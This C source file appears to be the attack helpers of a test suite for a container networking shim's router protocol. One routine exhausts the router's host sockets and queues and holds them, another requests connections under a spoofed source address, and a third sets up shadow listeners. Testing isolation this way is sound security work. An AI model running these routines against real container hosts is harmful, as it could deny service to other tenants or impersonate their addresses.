/* What docs/shim-protocol.md lets a process of a container ask for. */
#include "attack.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/un.h>
#include <unistd.h>

enum {
    HELLO = 1,
    CONNECT = 3,
    CONNECT_OK = 4,
    LISTEN = 5,
    LISTEN_OK = 6,
    QUEUE = 10,
    MOST_QUEUED = 16,
    QUEUES = 20,
    CLAIMS = 10,
    ATTEMPTS = 100,
    BETWEEN_US = 50000
};

struct frame {
    uint32_t length;
    uint8_t version, type, descriptors, reserved;
    uint64_t request;
    uint8_t body[496];
};

/* What io_uring has left to do for this thread interrupts calls. */
static void must_read(int router, void *to, size_t length) {
    for (size_t done = 0; done < length;) {
        ssize_t part = recv(router, (char *)to + done, length - done, 0);
        if (part == 0 || (part < 0 && errno != EINTR)) {
            give_up("the router's answer");
        }
        done += part < 0 ? 0 : (size_t)part;
    }
}

static int take_descriptor(int router) {
    char byte;
    struct iovec data = {&byte, 1};
    char control[CMSG_SPACE(sizeof(int))] = {0};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int fd = -1;
    ssize_t received;
    do {
        received = recvmsg(router, &message, MSG_CMSG_CLOEXEC);
    } while (received < 0 && errno == EINTR);
    if (received == 1 && CMSG_FIRSTHDR(&message)) {
        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    }
    return fd;
}

static struct frame ask(int router, uint8_t type, const uint8_t *body, size_t length, int *descriptors) {
    struct frame frame = {.length = (uint32_t)(16 + length), .version = 1, .type = type, .request = type};
    memcpy(frame.body, body, length);
    if (send(router, &frame, frame.length, MSG_NOSIGNAL) != (ssize_t)frame.length) {
        give_up("asking the router");
    }
    must_read(router, &frame, 16);
    must_read(router, frame.body, frame.length - 16);
    for (int i = 0; i < frame.descriptors; i++) {
        descriptors[i] = take_descriptor(router);
    }
    if (frame.descriptors) {
        char closed;
        must_read(router, &closed, 1);
    }
    return frame;
}

static int open_router(void) {
    const char *path = getenv("SLIM_SOCKET");
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path ? path : "/run/slim/slim.sock");
    int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), none[4];
    struct timeval limit = {.tv_sec = 10};
    setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (connect(connection, (struct sockaddr *)&address, sizeof address)) {
        give_up(address.sun_path);
    }
    uint8_t hello[8] = {1, 0, 1, 0};
    ask(connection, HELLO, hello, sizeof hello, none);
    return connection;
}

static int router(void) {
    static int kept = -1;
    if (kept < 0) {
        kept = open_router();
    }
    return kept;
}

static void put_endpoint(uint8_t *to, const char *address, const char *port) {
    uint16_t number = (uint16_t)atoi(port);
    to[0] = strchr(address, ':') ? 6 : 4;
    memcpy(to + 2, &number, sizeof number);
    if (inet_pton(to[0] == 6 ? AF_INET6 : AF_INET, address, to + 4) != 1) {
        give_up(address);
    }
}

/* A host socket that the router has made because the destination is there; asked for until it is. */
int client_socket(int family, const char *address, const char *port) {
    uint8_t body[44] = {(uint8_t)family, 1};
    put_endpoint(body + 4, address, port);
    struct frame answer = {0};
    for (int i = 0; i < ATTEMPTS; i++) {
        int descriptors[4] = {-1, -1, -1, -1};
        answer = ask(router(), CONNECT, body, sizeof body, descriptors);
        if (answer.type == CONNECT_OK && answer.body[0] == 1 && descriptors[0] >= 0) {
            return descriptors[0];
        }
        usleep(BETWEEN_US);
    }
    fprintf(stderr, "attack: no host socket to %s: type %d, reason %d\n", address, answer.type, answer.body[2]);
    exit(2);
}

/* ADDRESS PORT: as many host sockets as the router gives out, then as many queues of them as it opens; and keeps them all. */
void hoard(int family, char **arguments) {
    uint8_t body[44] = {(uint8_t)family, 1}, queue[4] = {(uint8_t)family, 0, MOST_QUEUED, 0};
    struct rlimit most;
    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    put_endpoint(body + 4, arguments[0], arguments[1]);
    int sockets = 0, queues = 0, none[4], reason;
    close(client_socket(family, arguments[0], arguments[1]));
    for (;; sockets++) {
        int descriptors[4] = {-1, -1, -1, -1};
        struct frame answer = ask(router(), CONNECT, body, sizeof body, descriptors);
        reason = answer.body[2];
        if (answer.type != CONNECT_OK || answer.body[0] != 1) {
            break;
        }
    }
    for (; queues < QUEUES; queues++) {
        int connection = open_router();
        ask(connection, QUEUE, queue, sizeof queue, none);
    }
    printf("hoarded %d reason %d queues %d\n", sockets, reason, queues);
    fflush(stdout);
    pause();
}

/* A listener with its shadow, on all addresses; the shadow listens, too. */
struct shadow shadow_of(int family, const char *port) {
    struct shadow shadow = {.own = socket(family == 4 ? AF_INET : AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0)};
    const char *any = family == 4 ? "0.0.0.0" : "::";
    struct place place = place_of(family, any, port);
    uint8_t body[40] = {(uint8_t)family};
    int descriptors[4] = {-1, -1, -1, -1}, yes = 1;
    setsockopt(shadow.own, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    socklen_t length = sizeof(uint64_t);
    if (bind(shadow.own, (struct sockaddr *)&place.address, place.length) || listen(shadow.own, 64) ||
        getsockopt(shadow.own, SOL_SOCKET, SO_COOKIE, body + 32, &length)) {
        give_up("a listener");
    }
    body[4] = 64;
    put_endpoint(body + 8, any, port);
    struct frame answer = ask(router(), LISTEN, body, sizeof body, descriptors);
    if (answer.type != LISTEN_OK || answer.body[0] != 1) {
        fprintf(stderr, "attack: no shadow: type %d, reason %d\n", answer.type, answer.body[2]);
        exit(2);
    }
    shadow.socket = descriptors[0];
    shadow.lease = descriptors[1];
    if (listen(shadow.socket, 64)) {
        give_up("the shadow");
    }
    return shadow;
}

void arm(const struct shadow *shadow) {
    uint8_t message[8] = {1};
    if (send(shadow->lease, message, sizeof message, MSG_NOSIGNAL) != sizeof message) {
        give_up("the lease");
    }
}

/* OWN-ADDRESS ADDRESS PORT: asks for a connection in the name of an address. */
void claim(int family, char **arguments) {
    uint8_t body[44] = {(uint8_t)family, 1};
    int descriptors[4];
    put_endpoint(body + 4, arguments[1], arguments[2]);
    put_endpoint(body + 24, arguments[0], "0");
    struct frame answer = {0};
    for (int i = 0; i < CLAIMS; i++) {
        answer = ask(router(), CONNECT, body, sizeof body, descriptors);
        if (answer.type == CONNECT_OK && answer.body[0] == 1) {
            got("claim", family, "the-address");
            return;
        }
        usleep(BETWEEN_US);
    }
    printf("claim %d refused type-%d reason-%d\n", family, answer.type, answer.type == CONNECT_OK ? answer.body[2] : answer.body[0]);
}
